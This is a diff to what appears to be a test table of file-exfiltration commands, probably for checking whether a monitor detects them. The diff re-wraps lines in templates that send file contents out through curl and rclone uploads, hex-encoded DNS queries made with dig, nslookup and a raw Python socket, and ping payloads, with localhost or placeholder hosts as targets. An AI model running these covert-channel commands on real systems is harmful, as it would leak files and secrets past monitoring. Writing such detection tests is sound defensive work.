@@ -118,15 +118,17 @@ ROWS = [
             unpack="gzip -dc"),
     network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
             unpack="funzip -x"),
-    # What asks for names and pings: nobody has to read a file for that. The first of a pipeline is
-    # told, to where the last one asks; on a busy machine, where the shell makes it slowly, the last one. What is asked twice is garbled.
+    # What asks for names and pings: nobody has to read a file for that. The first of a pipeline is told, to where the last one asks;
+    # on a busy machine, where the shell makes it slowly, the last one. What is asked twice is garbled.
     network(QUERIES + " | dig @{dns} +tries=1 +time=2 -f - > /dev/null", "xxd|dig", "53", "{dns}", arrives=1500),
     network(QUERIES + " | nslookup - {dns} > /dev/null", "xxd|nslookup", "53", "{dns}", arrives=1500),
     network("python3 -c \"import socket; s = socket.socket(2, 2); d = open('{s}', 'rb').read().hex(); "
-            "s.connect(('{dns}', 53)); p = lambda n: bytes(2) + b'\\1\\0\\0\\1' + bytes(6) + b''.join(bytes([len(x)]) + x.encode() for x in n.split('.')) + b'\\0\\0\\1\\0\\1'; "
+            "s.connect(('{dns}', 53)); p = lambda n: bytes(2) + b'\\1\\0\\0\\1' + bytes(6) + "
+            "b''.join(bytes([len(x)]) + x.encode() for x in n.split('.')) + b'\\0\\0\\1\\0\\1'; "
             "[(s.send(p('%s.%s.{t}.t.example' % (d[i:i + 60], d[i + 60:i + 120] or '20'))), s.recv(999)) for i in range(0, len(d), 120)]\"",
             "python3", "53", "{dns}"),
-    network("{{ sleep 0.2; head -c 640 {s}; }} | xxd -p -c 16 | while read -r hex; do ping -q -n -c 1 -W 1 -s 32 -p $hex {echo} > /dev/null || exit 1; done",
+    network("{{ sleep 0.2; head -c 640 {s}; }} | xxd -p -c 16 | "
+            "while read -r hex; do ping -q -n -c 1 -W 1 -s 32 -p $hex {echo} > /dev/null || exit 1; done",
             "ping", address="{echo}", same_event=False, arrives=5),
     network("curl -sf -T {s} http://127.0.0.1:{dav}/{t}.csv", "curl", "{dav}"),
     network("rclone -q --config /dev/null copyto {s} \":webdav,url='http://127.0.0.1:{dav}':{t}.csv\"", "rclone", "{dav}"),
